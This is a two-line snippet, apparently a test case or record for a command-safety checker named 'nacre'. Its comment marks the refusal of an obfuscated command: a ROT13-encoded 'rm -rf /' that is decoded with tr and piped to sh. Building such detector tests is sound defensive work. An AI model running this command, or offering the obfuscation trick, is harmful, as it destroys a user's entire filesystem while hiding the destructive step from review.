# nacre: refused file.destroy code.eval-decoded
echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh
